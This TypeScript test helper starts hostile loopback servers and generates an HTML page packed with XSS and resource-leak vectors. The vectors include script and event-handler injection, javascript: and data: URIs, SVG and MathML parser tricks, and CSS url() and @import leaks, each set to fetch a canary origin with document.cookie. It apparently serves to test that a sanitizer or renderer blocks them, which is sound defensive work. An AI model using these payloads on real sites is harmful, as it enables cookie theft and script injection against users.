// A web server that means ill, on loopback: it redirects, drips, bombs, lies and breaks off; and a canary that stands inside.
import http, { type IncomingMessage, type ServerResponse } from "node:http";
import net, { type AddressInfo, type Socket } from "node:net";

export type HostileServer = Awaited<ReturnType<typeof openHostileServer>>;
export type Trick = (response: ServerResponse, request: IncomingMessage) => void;

/** Opens a server on which each path plays its trick; `origin` is its address by number, `requests` what it was asked. */
export async function openHostileServer(tricks: Record<string, Trick>, { host = "127.0.0.1", port: wanted = 0 } = {}) {
  const requests: IncomingMessage[] = [];
  const server = http.createServer((request, response) => {
    requests.push(request);
    const trick = tricks[new URL(request.url ?? "/", "http://hostile").pathname];
    if (trick) trick(response, request);
    else response.writeHead(404).end();
  });
  await new Promise<void>((listening) => server.listen(wanted, host, listening));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    requests,
    origin: `http://${host}:${port}`,
    async close() {
      server.closeAllConnections();
      await new Promise((closed) => server.close(closed));
    },
  };
}

/** Opens a server that answers each connection with whatever it likes, HTTP or not. */
export async function openRawServer(answer: (socket: Socket) => void) {
  const sockets = new Set<Socket>();
  const server = net.createServer((socket) => {
    sockets.add(socket.on("error", () => {}).on("close", () => sockets.delete(socket)));
    socket.once("data", () => answer(socket));
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  const { port } = server.address() as AddressInfo;
  return {
    port,
    origin: `http://127.0.0.1:${port}`,
    async close() {
      for (const socket of sockets) socket.destroy();
      await new Promise((closed) => server.close(closed));
    },
  };
}

/** What a hostile page may still say after everything else has been taken from it. */
export const hostileWords = "هذه صفحة تريد أن تفعل ما لا يليق.";

/**
 * A page that tries to run, to frame, to fetch and to read cookies in every way we know. Whatever of it comes about asks
 * `canary` (an origin), marks `document.title` with "ran", or both.
 */
export function hostilePage(canary: string): string {
  const run = `document.title='ran';fetch('${canary}/ran?'+document.cookie)`;
  const scriptUri = `javascript:${encodeURIComponent(run)}`;
  const drawing = `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${canary}/in-drawing"/></svg>`).toString("base64")}`;
  return `<!DOCTYPE html><html lang="ar" dir="rtl" manifest="${canary}/manifest" onclick="${run}"><head>
<base href="${canary}/base/" target="_top"><title>صفحة</title>
<meta http-equiv="refresh" content="0; url=${canary}/refresh"><meta http-equiv="Set-Cookie" content="a=b">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<link rel="preload" as="image" href="${canary}/preload"><link rel="dns-prefetch" href="${canary}"><link rel="icon" href="${canary}/icon">
<link rel="stylesheet" href="${canary}/sheet.css"><link rel="modulepreload" href="${canary}/module.js"><link rel="prerender" href="${canary}/prerender">
<style>@import "${canary}/import-1"; @import url(${canary}/import-2) screen; @\\69mport '${canary}/import-3';
body{background:url(${canary}/url-1)} p{background:\\75 rl("${canary}/url-2")} i{background:image-set("${canary}/set-1" 1x)}
q{--a:"${canary}/set-2";background:image-set(var(--a) 1x)} u{background:-webkit-image-set(url('${canary}/set-3') 1x)}
@font-face{font-family:x;src:url(${canary}/font)} s{cursor:url(${canary}/cursor),auto;behavior:url(${canary}/behavior);-moz-binding:url(${canary}/binding)}
input[value^="a"]{background:url(${canary}/leak?a)} b{content:url( ${canary}/content )} a{width:expression(${run})}
em{background:url("${canary}/\\
line")} @namespace "${canary}/namespace"; </style>
<script>${run}</script><script src="${canary}/script.js"></script><script type="module">${run}</script>
<noscript><style></noscript><img src=x onerror="${run}"></style></noscript></head>
<body onload="${run}" background="${canary}/background" style="background:url(${canary}/body-style)"><p>${hostileWords}</p>
<img src="${canary}/img" srcset="${canary}/srcset 2x" onerror="${run}" onload="${run}" style="list-style:url('${canary}/style')"><picture><source srcset="${canary}/source"><img src="x:y"></picture>
<img src=x onerror=${encodeURIComponent(run)}><IMG SRC=&#106;avascript:1 oNeRrOr="${run}"><image src="${canary}/image" onerror="${run}">
<a href="${scriptUri}">رابط</a><a href=" &#x6A;ava&Tab;script:${run}">رابط</a><a href="data:text/html,<script>${run}</script>">رابط</a><a href="${canary}/link" ping="${canary}/ping">رابط</a>
<iframe src="${canary}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe><frameset><frame src="${canary}/frame-2"></frameset>
<object data="${canary}/object" type="text/html"></object><embed src="${canary}/embed"><applet code="${canary}/applet"></applet><portal src="${canary}/portal"></portal>
<form action="${canary}/form" id="f"><button formaction="${scriptUri}">زر</button><input type="image" src="${canary}/input" autofocus onfocus="${run}"><isindex action="${canary}/isindex"></form>
<video src="${canary}/video" poster="${canary}/poster" autoplay><source src="${canary}/video-2" onerror="${run}"><track src="${canary}/track"></video><audio src="${canary}/audio" autoplay></audio>
<svg onload="${run}"><script>${run}</script><script href="${canary}/svg-script"/><image href="${canary}/svg-image" xlink:href="${canary}/svg-image-2"/><use href="${canary}/use.svg#a"/><use xlink:href="data:image/svg+xml,<svg id='a' onload='${run}'/>#a"/>
<a xlink:href="${scriptUri}"><text>رابط</text></a><animate attributeName="href" values="${scriptUri}"/><set attributeName="onmouseover" to="${run}"/><foreignObject><iframe src="${canary}/foreign"></iframe></foreignObject>
<rect fill="url(${canary}/paint#a)" style="mask:url(${canary}/mask#a)" onclick="${run}"/><style>@import "${canary}/svg-import"; rect{fill:url(${canary}/svg-url)}</style><style><img src=x onerror="${run}"></style><feImage href="${canary}/fe"/></svg>
<math href="${scriptUri}"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run.replaceAll(" ", "")}&gt;"></mglyph></table></mtext><maction actiontype="statusline" xlink:href="${scriptUri}">رابط</maction></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>
<template><img src="${canary}/template" onerror="${run}"></template><template shadowrootmode="open"><img src="${canary}/shadow"><script>${run}</script></template>
<img src="${drawing}"><table background="${canary}/table"><tr><td background="${canary}/cell">خلية</td></tr></table><body onpageshow="${run}"><marquee onstart="${run}">نص</marquee><details open ontoggle="${run}"><summary>نص</summary></details>
<xmp><img src=x onerror="${run}"></xmp><noembed><img src=x onerror="${run}"></noembed><textarea><img src=x onerror="${run}"></textarea><title><img src=x onerror="${run}"></title><select><img src=x onerror="${run}"></select>
<p style="background:url(${canary}/p-style);--x:url(${canary}/p-var)" title="</style><script>${run}</script>">فقرة</p><!--[if IE]><script>${run}</script><![endif]--><comment><img src="</comment><img src=x onerror=${run.replaceAll(" ", "")}//"></comment>
<div id="cookie" name="body"></div><x-element is="script" onclick="${run}">نص</x-element><p></p><img src='${canary}/dangling?
<p>ما بعدها</p>`;
}
